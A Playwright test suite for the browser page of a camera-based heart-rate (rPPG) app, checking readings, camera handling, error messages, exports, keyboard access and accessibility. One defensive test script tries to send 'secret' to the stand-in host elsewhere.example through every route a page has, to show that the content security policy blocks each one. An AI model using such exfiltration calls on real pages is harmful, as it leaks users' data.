"""The page in a real browser, with a camera that plays films of the generator."""

from __future__ import annotations

import json
import os
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from phase_rppg.web import Asset, PageServer

from .conftest import missing
from .filming import empty, film, write_y4m
from .projection import PATIENCE_S, WATCH, clearing_s, expect, pace, page_fps, read, wait

SHOTS = "PHASE_SCREENSHOTS"  # a folder: pictures of every state are kept there
DESKTOP = {"width": 1280, "height": 900}
PHONE = {"width": 390, "height": 844}
SMALL = {"width": 320, "height": 480}  # quickly drawn, where nobody looks


def shoot(page: Any, name: str, size: dict[str, int] | None = None) -> None:
    """Keep a picture of the page, in another size than the test's if need be."""
    if folder := os.environ.get(SHOTS):
        before = page.viewport_size
        page.set_viewport_size(size or before)
        page.wait_for_timeout(500)
        page.screenshot(path=str(Path(folder) / f"{name}.png"), full_page=True)
        page.set_viewport_size(before)


def assert_kept_to_itself(page: Any, server: PageServer) -> None:
    assert page.problems == []
    assert f"{server.url}models/face/yunet.onnx" in page.requests  # the worker's requests are counted too
    foreign = [url for url in page.requests if not url.startswith((server.url, "blob:"))]
    assert foreign == []


Serve = Callable[..., PageServer]
Browse = Callable[..., Any]


# How much of the waveform is in the red of a reading.
WAVE_MARKS = """() => {
  const canvas = document.querySelector("#wave canvas");
  const { data } = canvas.getContext("2d").getImageData(0, 0, canvas.width, canvas.height);
  let marks = 0;
  for (let i = 0; i < data.length; i += 4) marks += data[i + 3] > 100 && data[i] - data[i + 1] > 80;
  return marks;
}"""


# The state, and how much of the spectrum is in the red of a reading.
MARKS = """() => {
  const canvas = document.querySelector("#spectrum canvas");
  const { data } = canvas.getContext("2d").getImageData(0, 0, canvas.width, canvas.height);
  let marks = 0;
  for (let i = 0; i < data.length; i += 4) marks += data[i + 3] > 100 && data[i] - data[i + 1] > 80;
  return [document.querySelector("#reading").dataset.state, marks];
}"""


def test_a_face_is_read_and_when_it_goes_the_number_goes(
    serve: Serve, browse: Browse, tmp_path: Path
) -> None:
    frames, _, truth_bpm = film(72, 10)
    reel, faces = [*frames, *frames, *empty(4)], 2 * len(frames)
    server = serve()
    with browse(write_y4m(tmp_path / "72.y4m", reel), viewport=SMALL, color_scheme="dark") as page:
        page.goto(server.url)
        page.click("#start")
        page.evaluate(WATCH)
        read(page, truth_bpm, len(reel), faces)
        wait(page, lambda: page.evaluate(MARKS)[1] > 0, "a peak in the spectrum")
        wait(page, lambda: page.evaluate(WAVE_MARKS) > 0, "a waveform of a reading")
        shoot(page, "steady-desktop-dark", DESKTOP)
        # The film is a loop: a computer that is busy gets another chance.
        wait(page, lambda: clearing_s(page, faces) <= 2, "a number that is gone 2 s after its face")
        shoot(page, "gone", DESKTOP)
        for _ in range(8):  # windows that end later still hold a part of the face
            mood, marks = page.evaluate(MARKS)
            assert mood != "searching" or marks == 0
            page.wait_for_timeout(250)
        assert_kept_to_itself(page, server)


def test_a_fast_heart_is_read(serve: Serve, browse: Browse, tmp_path: Path) -> None:
    frames, _, truth_bpm = film(110, 12)
    server = serve()
    with browse(
        write_y4m(tmp_path / "110.y4m", frames), color_scheme="light", viewport=PHONE, accept_downloads=True
    ) as page:
        page.goto(server.url)
        page.focus("body")
        page.keyboard.press("s")  # the keyboard starts it
        page.evaluate(WATCH)
        read(page, truth_bpm, len(frames))
        shoot(page, "steady-phone-light")
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")  # nothing hangs over
        for scheme, where, size in (("dark", "phone", PHONE), ("light", "desktop", DESKTOP)):
            page.emulate_media(color_scheme=scheme)
            page.set_viewport_size(size)
            shoot(page, f"steady-{where}-{scheme}")
        page.keyboard.press("s")
        page.wait_for_selector("#summary:not([hidden])")
        off = page.evaluate("document.querySelector('#video').srcObject")
        assert off is None  # the camera's light is out
        shoot(page, "summary-desktop-light")
        with page.expect_download() as saved:
            page.click("#csv")
        lines = Path(saved.value.path()).read_text().splitlines()
        assert lines[0].startswith("video,face,start_s,end_s,bpm")
        assert [float(line.split(",")[2]) for line in lines[1:4]] == [
            0,
            1,
            2,
        ]  # the clock starts with the session
        assert_kept_to_itself(page, server)


def test_a_photo_gets_no_number_for_want_of_a_pulse(serve: Serve, browse: Browse, tmp_path: Path) -> None:
    frames, _, _ = film(72, 8, world="photo")
    server = serve()
    with browse(write_y4m(tmp_path / "photo.y4m", frames), viewport=SMALL) as page:
        page.goto(server.url)
        page.click("#start")
        page.evaluate(WATCH)
        page.wait_for_selector("#reading[data-state=none]")
        even_s, until = 0.0, time.monotonic() + PATIENCE_S
        while even_s < 6:
            assert time.monotonic() < until, "this computer is too busy: the film never ran evenly"
            assert page.text_content("#bpm") == "––"
            assert page.evaluate(WAVE_MARKS) == 0  # noise is not drawn as a pulse
            reason = page.get_attribute("#reading", "data-reason")
            ran = pace(page, 72, len(frames), len(frames))
            if ran is not None and ran.even:
                assert reason == "NO_PULSE"
                even_s += 0.2
            page.wait_for_timeout(200)
        shoot(page, "photo", DESKTOP)
        assert_kept_to_itself(page, server)


USED_CAMERA = "document.querySelector('#video').srcObject?.getVideoTracks()[0].getSettings().deviceId"


def test_another_camera_can_be_chosen_and_a_silent_one_shows_no_number(serve: Serve, browse: Browse) -> None:
    server = serve()
    with browse(cameras=2) as page:

        def says(words: str) -> None:
            wait(page, lambda: words in page.inner_text("main"), f"“{words}”")

        def uses(camera: str) -> None:
            expect(page, lambda: page.evaluate(USED_CAMERA), camera)
            wait(page, lambda: page_fps(page) > 0, "a picture")

        page.goto(server.url)
        assert not page.is_visible("#camera")  # nobody has allowed a camera yet
        page.click("#start")
        says("No face in view")
        expect(page, lambda: page.locator("#camera option").count(), 2)
        first, second = page.eval_on_selector_all("#camera option", "all => all.map((one) => one.value)")
        assert page.input_value("#camera") == first
        uses(first)
        page.select_option("#camera", second)
        uses(second)
        page.click("#start")  # stops
        page.wait_for_selector("#summary:not([hidden])")
        page.click("#start")  # and starts anew: the choice stays
        uses(second)
        page.evaluate("document.querySelector('#video').pause()")
        says("no picture")
        page.evaluate("() => void document.querySelector('#video').play()")
        says("No face in view")
        page.evaluate(
            "document.querySelector('#video').srcObject.getVideoTracks()[0].dispatchEvent(new Event('ended'))"
        )
        says("unplugged")
        expect(page, lambda: page.inner_text("#start"), "Measure again")
        assert_kept_to_itself(page, server)


def test_a_denied_camera_is_explained(serve: Serve, browse: Browse) -> None:
    server = serve()
    with browse() as page:
        page.goto(server.url)
        page.click("#start")
        page.wait_for_selector("#reading[data-state=none]")
        assert "blocked" in page.inner_text("#guidance")
        assert page.inner_text("#start") == "Start camera"
        shoot(page, "denied")


DROP = """async () => {
  const bytes = await (await fetch("./film.mp4")).arrayBuffer();
  const transfer = new DataTransfer();
  transfer.items.add(new File([bytes], "film.mp4", { type: "video/mp4" }));
  const drop = new DragEvent("drop", { dataTransfer: transfer, bubbles: true });
  document.querySelector("#screen").dispatchEvent(drop);
}"""


@pytest.mark.parametrize("host", ["phase live", "any static host"])
def test_a_dropped_video_gets_its_report(
    host: str, serve: Serve, static: Callable[..., str], browse: Browse, tmp_path: Path
) -> None:
    from phase_rppg.video.encode import write_video

    frames, t_s, truth_bpm = film(84, 12, seed=3)
    mp4 = tmp_path / "film.mp4"
    turns = 0 if host == "phase live" else 2  # a phone that was held upside down says so in its file
    stored = (np.ascontiguousarray(np.rot90(rgb, -turns)) for rgb in frames)
    write_video(mp4, stored, t_s=t_s, crf=12, preset="veryfast", rotation=90 * turns)
    address = serve({mp4.name: Asset("video/mp4", mp4)}).url if host == "phase live" else static(mp4)
    with browse(viewport=DESKTOP, color_scheme="light") as page:
        page.goto(address)
        page.evaluate(DROP)
        page.wait_for_selector("#report:not([hidden])", timeout=240_000)
        assert abs(float(page.inner_text("#report .summary-line b")) - truth_bpm) <= 2
        assert page.locator("#report tbody tr").count() >= 2
        assert_accessible(page)
        shoot(page, "report-light")
        with page.expect_download() as saved:
            page.click("#json")
        document = json.loads(Path(saved.value.path()).read_text())
        assert document["video"] == "film.mp4"
        assert document["warnings"] == []
        assert page.problems == []
        assert [url for url in page.requests if not url.startswith((address, "blob:"))] == []


def test_a_file_that_is_no_video_is_explained(serve: Serve, browse: Browse, tmp_path: Path) -> None:
    server = serve()
    (tmp_path / "notes.mp4").write_text("not a video")
    with browse() as page:
        page.goto(server.url)
        page.set_input_files("#file", str(tmp_path / "notes.mp4"))
        page.wait_for_selector("#reading[data-state=none]")
        assert "cannot play it" in page.inner_text("#guidance")


def test_a_damaged_network_is_refused(serve: Serve, browse: Browse) -> None:
    server = serve({"models/face/yunet.onnx": Asset("application/octet-stream", content=b"something else")})
    with browse() as page:
        page.goto(server.url)
        page.wait_for_selector("#reading[data-state=none]")
        assert "damaged" in page.inner_text("#guidance")


def test_a_missing_file_is_named(serve: Serve, browse: Browse) -> None:
    server = serve()
    del server.assets["models/infer/phasenet-stream.onnx"]
    with browse() as page:
        page.goto(server.url)
        page.wait_for_selector("#reading[data-state=none]")
        assert "phasenet-stream.onnx is missing" in page.inner_text("#guidance")


# Sends something to another place, in every way a page has, and gathers what the policy says to it.
ESCAPE = """async (wanted) => {
  const blocked = [];
  document.addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
  const elsewhere = "https://elsewhere.example/";
  await fetch(elsewhere, { mode: "no-cors", method: "POST", body: "secret" }).catch(() => undefined);
  navigator.sendBeacon(elsewhere, "secret");
  try { new WebSocket("wss://elsewhere.example/"); } catch {}
  document.body.append(Object.assign(new Image(), { src: elsewhere }));
  document.head.append(Object.assign(document.createElement("script"), { src: elsewhere }));
  document.body.append(Object.assign(document.createElement("iframe"), { src: elsewhere }));
  const form = Object.assign(document.createElement("form"), { action: elsewhere, method: "post" });
  document.body.append(form);
  form.submit();
  for (let i = 0; i < 600 && !wanted.every((one) => blocked.includes(one)); i++)
    await new Promise((done) => setTimeout(done, 100));
  return [...new Set(blocked)].sort();
}"""


def test_the_policy_forbids_every_way_out(serve: Serve, browse: Browse) -> None:
    with browse() as page:
        page.goto(serve().url)
        wanted = ["connect-src", "form-action", "frame-src", "img-src", "script-src-elem"]
        assert set(wanted) <= set(page.evaluate(ESCAPE, wanted))


def test_the_keyboard_reaches_everything_in_the_order_of_the_page(serve: Serve, browse: Browse) -> None:
    with browse(viewport=DESKTOP) as page:
        page.goto(serve().url)
        focused = "document.activeElement.id || document.activeElement.className"

        def reached(count: int) -> list[str]:
            return [(page.keyboard.press("Tab"), page.evaluate(focused))[1] for _ in range(count)]

        assert reached(5) == ["skip", "settings-button", "start", "open", "breathe"]
        page.keyboard.press("m")
        assert not page.is_checked("#mask")  # the mask is shown at first
        page.focus("#settings-button")
        page.keyboard.press("Enter")
        switches = ["mask", "everyone", "details", "shortcuts", "keep-history"]
        assert reached(7) == ["language", "theme", *switches]
        page.focus("#mask")
        page.keyboard.press("Space")
        assert page.is_checked("#mask")
        page.evaluate(
            """() => document.querySelector("#file").addEventListener("click", (event) => {
              window.asked = (window.asked ?? 0) + 1;
              event.preventDefault();
            })"""
        )
        page.keyboard.press("o")
        assert page.evaluate("window.asked") == 1
        page.uncheck("#shortcuts")
        for key in "osmdb":
            page.keyboard.press(key)
        assert page.evaluate("window.asked") == 1
        assert page.is_checked("#mask")
        assert page.get_attribute("body", "data-view") == "idle"
        page.reload()
        expect(page, lambda: page.is_checked("#shortcuts"), False)  # the choice is kept
        page.click("#settings-button")
        page.select_option("#theme", "light")
        assert page.get_attribute("html", "data-theme") == "light"
        page.focus("#theme")
        page.keyboard.press("Escape")
        assert not page.is_visible("#settings")
        assert page.evaluate(focused) == "settings-button"


AXE = Path(__file__).parent.parent.parent / "web" / "node_modules" / "axe-core" / "axe.min.js"


def assert_accessible(page: Any) -> None:
    """No rule of axe-core is broken: names, roles, order of headings, contrast of at least 4.5."""
    if not AXE.is_file():
        missing("axe-core", "run scripts/build-web")
    page.evaluate(AXE.read_text(encoding="utf-8"))  # past the policy, which lets no foreign script in
    found = page.evaluate(
        "() => axe.run(document, { runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'best-practice'] })"
    )
    broken = [
        f"{rule['id']}: {node['target']} {node['any'][:1] or node['all'][:1] or node['none'][:1]}"
        for rule in found["violations"]
        for node in rule["nodes"]
    ]
    assert broken == []
